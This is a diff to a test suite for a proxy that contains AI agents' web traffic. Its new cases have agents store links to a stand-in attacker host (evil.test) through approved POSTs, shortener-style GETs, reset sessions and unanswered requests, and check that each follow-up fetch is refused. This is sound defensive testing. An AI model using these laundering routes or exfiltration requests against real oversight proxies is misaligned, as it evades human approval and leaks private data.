@@ -24,7 +24,7 @@ import { normalizeLink } from '../../describe/links.ts';
 import { describeRequest } from '../../describe/describe.ts';
 import { tempDir } from '../temp-dir.ts';
 import { connectTunnel, readResponse } from '../proxy/helpers.ts';
-import { policyCopy, run, startSessionAirlock, startWeb, studioApi, viaCurl } from '../sessions/helpers.ts';
+import { contentLabels, policyCopy, run, startSessionAirlock, startWeb, studioApi, viaCurl } from '../sessions/helpers.ts';
 
 const numRuns = Number(process.env.AIRLOCK_FUZZ_RUNS ?? 200);
 const seed = process.env.AIRLOCK_FUZZ_SEED ? { seed: Number(process.env.AIRLOCK_FUZZ_SEED) } : {};
@@ -100,7 +100,8 @@ t.test('any change that reaches the upstream differently is another link', async
 
 t.test('through the real proxy: served spellings fetch, changed ones are refused', async (t) => {
   const web = await startWeb(t);
-  const airlock = await startSessionAirlock(t, tempDir(t, 'al-att-'), policyCopy(t), web);
+  const home = tempDir(t, 'al-att-');
+  const airlock = await startSessionAirlock(t, home, policyCopy(t), web);
   const agent = await airlock.agents.add('bot');
   const proxy = airlock.proxyUrl('bot', agent.token);
   await viaCurl(proxy, 'GET', `${web.origin('news.test')}/today`); // serves http://blog.test:PORT/post?id=4
@@ -184,6 +185,33 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   t.equal((await viaCurl(moverProxy, 'POST', `${web.origin('hooks.test')}/paste`, `notes: ${web.origin('evil.test')}/c?d=pasted-4242`)).status, 200);
   t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('hooks.test')}/paste`)).status, 200);
   t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/c?d=pasted-4242`)).status, 403, 'a link the agent stored on a host it writes to is not followed');
+  // Thirteenth pass: a host given as a bare string (notes.test) takes a POST once a human approves
+  // it, and a GET that stores what its query carries (a shortener's create call) without one; both
+  // served the stored link back to the next GET, and it was followed.
+  const api = await studioApi(airlock, home);
+  const posting = viaCurl(moverProxy, 'POST', `${web.origin('notes.test')}/paste`, `notes: ${web.origin('evil.test')}/c?d=approved-4242`);
+  const [held] = (await eventuallyPending(api)) as Array<{ id: string }>;
+  t.equal((await api('POST', `/api/approvals/${held!.id}/approve`, {})).status, 200);
+  t.equal((await posting).status, 200, 'the human approves the POST');
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
+  t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/c?d=approved-4242`)).status, 403, 'a link stored by an approved POST is not followed');
+  const shortener = await airlock.agents.add('shortener');
+  const shortProxy = airlock.proxyUrl('shortener', shortener.token);
+  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=short-4242`)}`)).status, 200);
+  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
+  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor one a GET stored');
+  // What one session stored is still there in the agent's next (a human's reset, the next run): its
+  // first request brings the `wrote:` labels of the agent's other sessions.
+  const shortSession = ((await api('GET', '/api/sessions')).body.sessions as Array<{ id: string; agent: string }>).find((x) => x.agent === 'shortener')!;
+  t.equal((await api('POST', `/api/sessions/${shortSession.id}/reset`, { reason: 'next run' })).status, 200);
+  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
+  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor in the agent\'s next session');
+  // The host holds it once the request arrives: a store whose answer the agent does not wait for.
+  const quitter = await airlock.agents.add('quitter');
+  const quitProxy = airlock.proxyUrl('quitter', quitter.token);
+  await run('curl', ['-sS', '--max-time', '0.5', '-x', quitProxy, `${web.origin('notes.test')}/paste-hang?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=quit-4242`)}`]).catch(() => undefined);
+  t.equal((await viaCurl(quitProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
+  t.equal((await viaCurl(quitProxy, 'GET', `${web.origin('evil.test')}/c?d=quit-4242`)).status, 403, 'nor one stored by a request never answered');
   t.notOk(web.hits.some((h) => h.host === 'evil.test'), 'evil.test was never reached');
 });
 
@@ -224,7 +252,7 @@ t.test('labels cannot be laundered', async (t) => {
   t.equal((await rawGet(port, `${web.origin('db.test')}/customers/1`, auth)).status, 200);
   const sessions = (await api('GET', '/api/sessions')).body.sessions as Array<{ labels: Record<string, unknown> }>;
   t.equal(sessions.length, 1, 'every connection and spelling of the token is one session');
-  t.same(Object.keys(sessions[0]!.labels).sort(), ['private', 'untrusted']);
+  t.same(contentLabels(sessions[0]!.labels), ['private', 'untrusted']);
 
   // The tunnel opened before: its next request is decided with the labels held now.
   tunnel.write(`POST /send HTTP/1.1\r\nHost: hooks.test:${web.port}\r\nPrefer: respond-async\r\nContent-Type: application/json\r\nContent-Length: ${post.length}\r\n\r\n${post}`);
